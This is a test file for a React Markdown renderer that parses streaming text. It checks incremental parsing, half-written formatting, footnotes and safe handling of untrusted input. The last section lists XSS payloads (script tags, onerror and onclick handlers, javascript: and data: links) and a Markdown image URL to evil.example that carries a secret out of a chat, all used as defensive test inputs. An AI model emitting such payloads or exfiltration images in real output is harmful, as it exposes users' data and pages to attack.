import { render } from "@testing-library/react";
import { describe, expect, test } from "vitest";
import { parse } from "../../app/markdown/blocks.ts";
import { Markdown } from "../../app/markdown/Markdown.tsx";

const LONG = `# Title

A paragraph with **bold**, *italic*, \`code\` and a [link](https://example.com).

- one
- two
  - nested

  with a second paragraph

1. first
2. second

| a | b |
|---|--:|
| 1 | 2 |

\`\`\`ts
const x = 1;

const y = 2;
\`\`\`

> a quote
> of two lines

Setext
------

Last words, ~~gone~~ and \`half`;

function html(text: string, isGrowing = false): string {
  const { container, unmount } = render(<Markdown text={text} isGrowing={isGrowing} />);
  const shown = container.innerHTML;
  unmount();
  return shown;
}

describe("a text that grows", () => {
  test.each([1, 3, 7, 50])("by %i characters at a time ends as the same text parsed at once", (step) => {
    const { container, rerender } = render(<Markdown text="" isGrowing />);
    for (let end = 0; end < LONG.length; end += step) rerender(<Markdown text={LONG.slice(0, end)} isGrowing />);
    rerender(<Markdown text={LONG} isGrowing={false} />);
    expect(container.innerHTML).toBe(html(LONG));
  });

  test("is parsed from its last block on", () => {
    const before = parse(LONG.slice(0, 200), true);
    const after = parse(LONG.slice(0, 260), true, before);
    expect(before.settled.length).toBeGreaterThan(2);
    for (const [index, block] of before.settled.entries()) expect(after.settled[index]).toBe(block);
  });

  test("that is replaced is parsed anew", () => {
    const before = parse(LONG, true);
    expect(parse("Something else\n\nentirely", true, before).settled.map((block) => block.source)).toEqual([
      "Something else",
    ]);
  });

  test("shows half-written emphasis, code and links as what they will be", () => {
    expect(html("It is **very", true)).toContain("<strong>very</strong>");
    expect(html("Call `fetch(", true)).toContain("<code>fetch(</code>");
    expect(html("See [the docs](https://exam", true)).not.toContain("](");
  });

  test("shows a half-written code block as code", () => {
    expect(html("Look:\n\n```ts\nconst x", true)).toContain("const x");
    expect(html("Look:\n\n```ts\nconst x", true)).toContain("<figure");
  });

  test("links to what is defined at its end, once it is finished", () => {
    const text = "See [the docs] for more.\n\nAnd on.\n\n[the docs]: https://example.com";
    expect(html(text)).toContain('href="https://example.com"');
  });

  test("keeps its footnotes", () => {
    const shown = html("A claim.[^1]\n\n[^1]: A source.");
    expect(shown).toContain("<sup>1</sup>");
    expect(shown).toContain("A source.");
  });
});

describe("a stranger's text", () => {
  test.each([
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "text <b onclick=alert(1)>bold</b>",
    "<iframe src=https://evil.example></iframe>",
  ])("is never taken for HTML: %s", (source) => {
    const { container } = render(<Markdown text={source} isGrowing={false} />);
    expect(container.querySelector("img, script, b, iframe")).toBeNull();
    expect(container.textContent).toContain("<");
  });

  test.each(["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x"])(
    "links nowhere but to the web: %s",
    (href) => {
      const { container } = render(<Markdown text={`[click](${href})`} isGrowing={false} />);
      expect(container.querySelector("a")?.hasAttribute("href")).toBe(false);
    },
  );

  test("loads no image: its address can carry the chat's text away", () => {
    const { container } = render(<Markdown text="![a map](https://evil.example/?q=secret)" isGrowing={false} />);
    expect(container.querySelector("img")).toBeNull();
    expect(container.querySelector("a")?.textContent).toBe("a map");
  });

  test("leaves math alone", () => {
    expect(html("It costs $5 and $6, and $x_1 + x_2$ is math.")).toContain("$5 and $6, and $x_1 + x_2$");
  });
});
